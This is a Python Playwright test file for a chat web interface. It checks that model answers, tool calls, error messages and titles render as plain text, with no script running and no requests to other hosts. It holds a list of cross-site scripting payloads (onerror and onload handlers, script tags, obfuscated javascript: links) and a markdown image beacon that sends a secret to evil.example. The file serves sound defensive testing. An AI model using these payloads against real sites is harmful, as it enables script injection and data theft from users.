"""Untrusted text of models, tools and users stays text: no script runs, nothing is loaded from other hosts."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import SOON, ChatPage

PAYLOADS = """\
<img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script>
<iframe srcdoc="<script>alert(1)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<math><mtext></form><form><style></math><img src onerror=alert(1)>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1))
[d](data:text/html,<script>alert(1)</script>)
[e](vbscript:alert(1)) [f](&#x6A;avascript:alert(1)) <javascript:alert(1)> [g](//evil.example/x) [h](/logout)
![i](https://evil.example/steal?d=SECRET) ![j][k] [![l](https://evil.example/m.png)](https://evil.example/)

```"><img src=x onerror=alert(1)>
<script>alert(1)</script>
```

| <img src=x onerror=alert(1)> | b |
| --- | --- |
| <script>alert(1)</script> | `<svg onload=alert(1)>` |

# <img src=x onerror=alert(1)>

[k]: https://evil.example/reference.png "<img src=x onerror=alert(1)>"
"""


@pytest.fixture
def foreign(chat: ChatPage) -> list[str]:
    """Return the requests to other hosts."""
    left: list[str] = []
    ours = urlsplit(chat.url).netloc

    def note(request: object) -> None:
        address = str(getattr(request, "url", ""))
        if urlsplit(address).netloc not in (ours, ""):
            left.append(address)

    chat.page.on("request", note)
    return left


def _assert_inert(chat: ChatPage, foreign: list[str]) -> None:
    log = chat.page.locator("#log")
    assert log.locator("script, img, iframe, form, style, noscript, math").count() == 0
    hrefs = log.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href') ?? '')")
    assert {urlsplit(href).scheme for href in hrefs} <= {"https", ""}
    assert not any(href.startswith("/") for href in hrefs)
    handlers = "nodes => nodes.flatMap(node => node.getAttributeNames()).filter(name => /^on|^style$/.test(name))"
    assert log.locator("*").evaluate_all(handlers) == []
    assert foreign == []


def test_an_answer_is_inert_while_it_streams_and_when_stored(chat: ChatPage, foreign: list[str]) -> None:
    answer = chat.ask(text=PAYLOADS, rate=60)
    while answer.get_attribute("data-open") is not None:
        _assert_inert(chat, foreign)
    chat.page.reload()
    expect(chat.answers.first).to_contain_text("onerror=alert(1)")
    _assert_inert(chat, foreign)


def test_tool_names_arguments_and_results_stay_inert(chat: ChatPage, foreign: list[str]) -> None:
    bad = "<img src=x onerror=alert(1)></pre><script>alert(1)</script>"
    answer = chat.ask(tools=[["echo", {"text": bad}], [bad, {bad: bad}]], text="done")
    chat.wait_finished()
    expect(answer.locator(".call")).to_have_count(2)
    expect(answer.locator(".call").first.locator(".call-brief")).to_have_text(bad)
    _assert_inert(chat, foreign)


def test_error_texts_stay_inert(chat: ChatPage, foreign: list[str]) -> None:
    chat.ask(status=400, message="<img src=x onerror=alert(1)>")
    chat.wait_finished()
    _assert_inert(chat, foreign)


def test_titles_stay_inert(chat: ChatPage, foreign: list[str]) -> None:
    title = "<img src=x onerror=alert(1)>"
    chat.send(title)
    expect(chat.page.get_by_role("heading", level=1)).to_have_text(title, timeout=SOON)
    chat.wait_finished()
    assert chat.page.locator(".sidebar img, .bar img").count() == 0
    _assert_inert(chat, foreign)
